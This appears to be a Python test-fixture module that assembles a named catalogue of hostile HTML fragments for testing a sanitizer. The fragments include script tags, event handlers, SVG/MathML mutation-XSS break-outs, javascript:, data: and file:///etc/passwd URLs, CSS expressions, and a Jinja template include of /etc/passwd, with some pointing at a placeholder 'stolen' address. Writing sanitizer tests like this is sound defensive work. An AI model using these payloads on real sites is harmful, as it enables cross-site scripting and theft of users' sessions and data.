"""Markup that tries to bring something active through the sanitizer: by name, the piece of HTML.

Own kinds, written for this collection: scripts, handlers, namespaces, text that becomes markup when it is parsed again,
addresses, styles, and what our own passes and writers use. `steal()` is what each tries to run.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

RUN = "<img src=x onerror=steal()>"
SCRIPT = "<script>steal()</script>"
OUT = "https://example.org/stolen"
_ELEMENTS = [
    "p",
    "a",
    "img",
    "table",
    "td",
    "ul",
    "li",
    "pre",
    "code",
    "blockquote",
    "figure",
    "span",
    "h2",
    "ruby",
    "q",
    "br",
    "hr",
]
_ADDRESSES = [
    "javascript:steal()",
    "&#106;avascript:steal()",
    "&#x6A&#x61vascript:steal()",
    "java&Tab;script:steal()",
    "java&NewLine;script:steal()",
    "javascript&colon;steal()",
    "&#1;javascript:steal()",
    "\x00javascript:steal()",
    "\u00a0javascript:steal()",
    "JaVaScRiPt:steal()",
    "javascript://example.org/%0Asteal()",
    "vbscript:steal()",
    "livescript:steal()",
    "mocha:steal()",
    "data:text/html,&lt;script&gt;steal()&lt;/script&gt;",
    "data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,&lt;svg onload=steal()&gt;",
    "data:application/xhtml+xml,x",
    "dat&Tab;a:text/html,x",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "view-source:javascript:steal()",
    "jar:https://example.org/x!/",
    "feed:javascript:steal()",
    "file:///etc/passwd",
    "smb://example.org/x",
    "\\\\example.org\\share",
    "x-apple-reader:x",
    "bind:other.note-1",
    "article:other",
    "resource:images/x",
]


def _elements() -> Iterator[tuple[str, str]]:
    yield from {
        "script": SCRIPT,
        "script with a space": "<script >steal()</script >",
        "script with a slash": "<script/x>steal()</script/x>",
        "script without an end": "<p>words<script>steal()",
        "script in a script": "<scr<script>ipt>steal()</scr</script>ipt>",
        "script with a NUL": "<scr\0ipt>steal()</scr\0ipt>",
        "script in capitals": "<SCRIPT>steal()</SCRIPT>",
        "script by address": f"<script src={OUT}></script>",
        "script by a half tag": f"<script src={OUT} <p>words</p>",
        "script as a module": "<script type=module>steal()</script>",
        "script in an entity": "&lt;script&gt;steal()&lt;/script&gt;",
        "script in a text area": f"<textarea>{SCRIPT}</textarea>",
        "script in a title": f"<title>{SCRIPT}</title>",
        "script in a template": f"<template>{SCRIPT}</template>",
        "script in a shadow tree": f"<div><template shadowrootmode=open>{SCRIPT}</template></div>",
        "script in noscript": f"<noscript>{SCRIPT}{RUN}</noscript>",
        "script in noembed": f"<noembed>{SCRIPT}{RUN}</noembed>",
        "script in noframes": f"<noframes>{SCRIPT}{RUN}</noframes>",
        "script in xmp": f"<xmp>{SCRIPT}{RUN}</xmp>",
        "script in listing": f"<listing>{SCRIPT}{RUN}</listing>",
        "script in plaintext": f"<plaintext>{SCRIPT}{RUN}",
        "script in an option": f"<select><option>{SCRIPT}</option></select>",
        "frame": f"<iframe src={OUT}>{SCRIPT}</iframe>",
        "frame of a script": "<iframe src=javascript:steal()></iframe>",
        "frame of a document": "<iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'></iframe>",
        "frames": f"<frameset><frame src={OUT}></frameset>",
        "object": f"<object data={OUT}><param name=src value={OUT}></object>",
        "object of a script": "<object data=javascript:steal()>words</object>",
        "embed": f"<embed src={OUT} type=text/html>",
        "applet": f"<applet code=x archive={OUT}></applet>",
        "portal": f"<portal src={OUT}></portal>",
        "refresh": f"<meta http-equiv=refresh content='0;url={OUT}'>",
        "policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "base": "<base href=javascript:steal()//><a href=x>words</a>",
        "style sheet": f"<link rel=stylesheet href={OUT}.css>",
        "import": f"<link rel=import href={OUT}>",
        "prefetch": f"<link rel=prefetch href={OUT}>",
        "attachment": "<link rel=attachment href=file:///etc/passwd><a rel=attachment href=file:///etc/passwd>words</a>",
        "form": f"<form action={OUT}><button formaction=javascript:steal()>words</button></form>",
        "input": "<input autofocus onfocus=steal()><input type=image src=x onerror=steal()>",
        "video": f"<video src={OUT} onerror=steal()><source onerror=steal()></video>",
        "track": f"<video><track src={OUT} default oncuechange=steal()></video>",
        "map": "<img usemap=#m alt=x src=x><map name=m><area href=javascript:steal() shape=default></map>",
        "background": f"<table background={OUT}><td background=javascript:steal()>words</td></table>",
        "marquee": "<marquee onstart=steal()>words</marquee>",
        "details": "<details open ontoggle=steal()><summary>words</summary></details>",
        "dialog": "<dialog open onclose=steal()>words</dialog>",
        "sound": f"<bgsound src={OUT}>",
        "layers": f"<layer src={OUT}></layer><ilayer src={OUT}></ilayer>",
        "data island": f"<xml id=x><x><![CDATA[{SCRIPT}]]></x></xml><span datasrc=#x datafld=x dataformatas=html></span>",
        "behavior": f"<?import namespace=x implementation={OUT}><x:y onclick=steal()>words</x:y>",
        "conditional comment": f"<!--[if IE]>{SCRIPT}<![endif]--><!--[if !IE]><!-->{RUN}<!--<![endif]-->",
        "custom element": "<x-widget onconnected=steal() style='x'>words</x-widget>",
        "popover": "<button popovertarget=p>words</button><div popover id=p onbeforetoggle=steal()>words</div>",
        "slot": "<slot onslotchange=steal()>words</slot>",
        "fenced frame": f"<fencedframe src={OUT}></fencedframe>",
        "image element": "<image src=x onerror=steal()>",
        "is attribute": "<p is=x-widget onclick=steal()>words</p>",
    }.items()


def _handlers() -> Iterator[tuple[str, str]]:
    for number, element in enumerate(_ELEMENTS):
        name = ["onclick", "onerror", "onmouseover", "onfocus", "onanimationstart", "onpointerenter", "onscrollend"][number % 7]
        yield f"{name} of {element}", f"<{element} {name}=steal() tabindex=0>words</{element}>"
    for name, text in {
        "in quotes": '<p onclick="steal()">words</p>',
        "in single quotes": "<p onclick='steal()'>words</p>",
        "in back quotes": "<p onclick=`steal()`>words</p>",
        "behind a slash": "<p/onclick=steal()/>words</p>",
        "behind a form feed": "<p\fonclick=steal()>words</p>",
        "behind a line": "<p\nonclick\n=\nsteal()>words</p>",
        "without a space": '<p title="x"onclick=steal()>words</p>',
        "in capitals": "<p ONCLICK=steal()>words</p>",
        "twice": "<p onclick=x onclick=steal()>words</p>",
        "with a NUL": "<p on\0click=steal()>words</p>",
        "with a prefix": "<p xml:onclick=steal() x:onclick=steal()>words</p>",
        "behind a broken quote": "<p title='x onclick=steal()>words</p>",
        "behind an equals sign": "<p ==onclick=steal()>words</p>",
        "behind an angle": "<p <onclick=steal()>words</p>",
        "in an end tag": "<p>words</p onclick=steal()>",
        "of the page": "<body onload=steal()><p>words</p></body><html onclick=steal()>",
        "by entities": "<p &#111;nclick=steal()>words</p>",
        "of an animation": "<p style='animation:x' onanimationend=steal()>words</p>",
    }.items():
        yield f"handler {name}", text


def _namespaces() -> Iterator[tuple[str, str]]:
    for name, text in {
        "style in svg": f'<svg></p><style><a id="</style>{RUN}">',
        "style in math": f'<math></p><style><a id="</style>{RUN}">',
        "glyph in a table": f'<math><mtext><table><mglyph><style><!--</style><a title="--&gt;{escape(RUN)}">words',
        "glyph and mark": f'<math><mtext><mglyph><malignmark><style><a title="</style>{RUN}">words',
        "forms out of order": f"<form><math><mtext></form><form><mglyph><style></math>{RUN}",
        "annotation of HTML": f'<math><annotation-xml encoding="text/html"><style>{RUN}</style></annotation-xml></math>',
        "annotation of SVG": f'<math><annotation-xml encoding="image/svg+xml"><svg><style>{RUN}</style></svg></annotation-xml>',
        "annotation without kind": f"<math><annotation-xml><svg><title><style>{RUN}</style></title></svg></annotation-xml>",
        "description": f"<svg><desc><noscript></desc>{RUN}</noscript></svg>",
        "title of svg": f"<svg><title><style><!--</title>{RUN}--></style></svg>",
        "foreign object": f"<svg><foreignObject><p><style><!--</p></foreignObject>{RUN}--></style></svg>",
        "paragraph in svg": f"<svg><p><style><!--</style>{RUN}--></svg>",
        "CDATA in svg": f"<svg><![CDATA[><p title=']]>{RUN}'></p>]]></svg>",
        "CDATA outside": f"<![CDATA[{RUN}]]>",
        "use": "<svg><use href=data:image/svg+xml,x#y /><use xlink:href=#z /></svg>",
        "animation": "<svg><a><animate attributeName=href values=javascript:steal() /><text>words</text></a></svg>",
        "set": "<svg><set attributeName=onclick to=steal() /></svg>",
        "script in svg": f"<svg>{SCRIPT}</svg>",
        "script in math": f"<math>{SCRIPT}</math>",
        "script by href in svg": f"<svg><script href={OUT} /></svg>",
        "link in math": "<math href=javascript:steal()><mi xlink:href=javascript:steal()>x</mi></math>",
        "action in math": "<math><maction actiontype=statusline xlink:href=javascript:steal()>x</maction></math>",
        "break-out element": f"<svg><ul><style><!--</style>{RUN}-->",
        "font breaks out": f"<svg><font color=red><style><!--</style>{RUN}-->",
        "nested svg": f"<svg><svg><p><svg><style>{RUN}</style></svg></p></svg></svg>",
        "svg in a cell": f'<table><tr><td><svg><desc><td><style><a title="</style>{RUN}">words</table>',
        "svg in a select": f"<select><svg><style><p title='</style></select>{RUN}'>",
        "template in svg": f"<svg><template><style>{RUN}</style></template></svg>",
        "math in svg": f"<svg><math><mtext><style>{RUN}</style></mtext></math></svg>",
        "namespace by attribute": f"<div xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></div>",
    }.items():
        yield f"namespace: {name}", text


def _mutations() -> Iterator[tuple[str, str]]:
    for name, text in {
        "end in a title": f'<p title="</p></article>{RUN}">words</p>',
        "end in an alt": f"<img src=x alt='\"><b>{RUN}'>",
        "end in an id": f"<p id='\"><b>{RUN}'>words</p>",
        "end in a lang": f"<p lang='en\">{RUN}'>words</p>",
        "end in a class": f"<p class='key\">{RUN}'>words</p>",
        "end in a label": f"<span role=img aria-label='\">{RUN}'>words</span>",
        "back quotes": "<p title='``onclick=steal()'>words</p>",
        "CDATA in a title": f"<p title=']]>{RUN}'>words]]&gt;</p>",
        "comment in a title": f"<p title='--><!--{RUN}'>words</p>",
        "comment that is cut": f"<!--><p>words</p>{RUN}-->",
        "comment with a mark": f"<!-- --!>{RUN}<!-- -->",
        "comment with dashes": f"<!---->{RUN}<!----->",
        "comment in a comment": f"<!-- <!-- -->{RUN}-->",
        "instruction": f"<?xml version='1.0'{RUN}?>",
        "doctype": f"<!DOCTYPE x [<!ENTITY y '{RUN}'>]>&y;",
        "bogus end": f"</p title='>{RUN}'>",
        "no name": f"< p>{RUN}",
        "noscript in an attribute": f'<noscript><p title="</noscript>{RUN}">',
        "title in an attribute": f'<title><p title="</title>{RUN}">',
        "style in an attribute": f'<style><p title="</style>{RUN}">',
        "text area in an attribute": f'<textarea><p title="</textarea>{RUN}">',
        "xmp in an attribute": f'<xmp><p title="</xmp>{RUN}">',
        "frame in an attribute": f'<iframe><p title="</iframe>{RUN}">',
        "twice escaped": f"<p>{escape(escape(RUN))} {escape(RUN)}</p>",
        "entity without end": "<p>&lt;img src=x onerror=steal()&gt &ltscript&gtsteal()</p>",
        "code that shows markup": f"<pre><code>{escape(RUN)}{escape(SCRIPT)}</code></pre>",
        "foster parent": f"<table><tr>{RUN}<td>words</td><style>{RUN}</style></table>",
        "links in links": f"<a href=#x><table><a href=javascript:steal()>words</a></table>{RUN}</a>",
        "formatting": f"<b><i><p></b>{RUN}</i>words</p>",
        "ruby": f"<ruby><rb><rt><rp></ruby>{RUN}<rt>words",
        "heading in a heading": f"<h1><h2>{RUN}</h1>words</h2>",
        "wbr with text": f"<p>a<wbr title='>{RUN}'>words</p>",
        "break with an attribute": f"<p>a<br title='/>{RUN}'>words</p>",
        "separators": "<p title='\u2028steal()\u2029'>words\u2028\u2029</p>",
        "replacement": "<p>\ufffd<\ufffdscript>steal()</p>",
        "BOM": "\ufeff<p>words</p>\ufeff<script>steal()</script>",
        "other angles": "<p>\uff1cscript\uff1esteal()\u2039/script\u203a</p>",
        "UTF-7": "<p>+ADw-script+AD4-steal()+ADw-/script+AD4-</p>",
    }.items():
        yield f"mutation: {name}", text


def _addresses() -> Iterator[tuple[str, str]]:
    for number, address in enumerate(_ADDRESSES):
        yield f"link to {address!r}", f'<p><a href="{address}">words</a></p>'
        if number % 2:
            yield f"image at {address!r}", f'<p><img src="{address}" alt="words"></p>'
        else:
            yield f"unquoted link to {address!r}", f"<p><a href={address.partition(' ')[0]}>words</a></p>"
    yield (
        "link by other attributes",
        "<a xlink:href=javascript:steal() ping=javascript:steal() data-href=javascript:steal()>words</a>",
    )
    yield "target and opener", f"<a href={OUT} target=_blank rel=opener download=x>words</a>"
    yield (
        "candidates of an image",
        "<img src=x srcset='javascript:steal() 2x' lowsrc=javascript:steal() dynsrc=javascript:steal()>",
    )
    yield (
        "quotation",
        "<blockquote cite=javascript:steal()>words</blockquote><q cite=javascript:steal()>words</q><ins cite=vbscript:x>x</ins>",
    )
    yield "long description", "<img src=x alt=x longdesc=javascript:steal()>"


def _styles() -> Iterator[tuple[str, str]]:
    for name, text in {
        "background": f"<p style='background:url({OUT})'>words</p>",
        "expression": "<p style='width:expression(steal())'>words</p>",
        "behavior": "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#x)'>words</p>",
        "over the page": "<p style='position:fixed;inset:0;z-index:9'>words</p>",
        "variables": f"<p style='--x:url({OUT});background:var(--x)'>words</p>",
        "escape": f"<p style='background:\\75rl({OUT})'>words</p>",
        "sheet": f"<style>@import '{OUT}';p{{background:url({OUT})}}</style>",
        "sheet in a body": f"<p>words<style>p{{background:url({OUT})}}</style></p>",
        "generated": "<style>p::before{content:'steal()'}</style><p>words</p>",
    }.items():
        yield f"style: {name}", text


def _ours() -> Iterator[tuple[str, str]]:
    for name, text in {
        "place of a source": '<p data-source="s-0123456789"></p><p>words</p>',
        "place of a source in a title": "<p title='<p data-source=\"s-0123456789\"></p>'>words</p>",
        "marks of a sheet": "<p data-at='a:1' data-table='a:1' data-characters='\"><script>'>words</p>",
        "note": f"<aside class='note source' id='s-0123456789'>{RUN}words</aside>",
        "reference to a note": "<p>words<a class=noteref role=doc-noteref href='#\"><script>steal()</script>'>1</a></p>",
        "formula": '<img class=math alt=x src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
        '<metadata><math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:steal()" onclick="steal()">x</mi>'
        '<annotation encoding="tex">&lt;script></annotation></math></metadata></svg>\'>',
        "epub types": "<p epub:type='noteref' xmlns:epub='http://www.idpf.org/2007/ops' role='doc-pagebreak'>words</p>",
        "ids of ours": "<p id='note-1'>words</p><p id='call-1'>words</p><p id='page_1'>words</p><p id='notes'>words</p>",
        "task": f"<p><span class='task done'>{RUN}</span>words</p>",
        "player": f"<p><a class=player href=javascript:steal()>{RUN}words</a></p>",
        "template of Jinja": "<p>{{ settings.__class__ }} {% include '/etc/passwd' %} words</p>",
        "end of an article": f"</article></div></body></html>{RUN}<p>words</p>",
        "bind in a title": "<p title='bind:other'>words <a href='#' title='href=\"javascript:steal()\"'>x</a></p>",
    }.items():
        yield f"ours: {name}", text


def payloads() -> dict[str, str]:
    """Every hostile piece of markup by its name."""
    found: dict[str, str] = {}
    for kind in (_elements, _handlers, _namespaces, _mutations, _addresses, _styles, _ours):
        for name, text in kind():
            assert name not in found, name
            found[name] = text
    return found
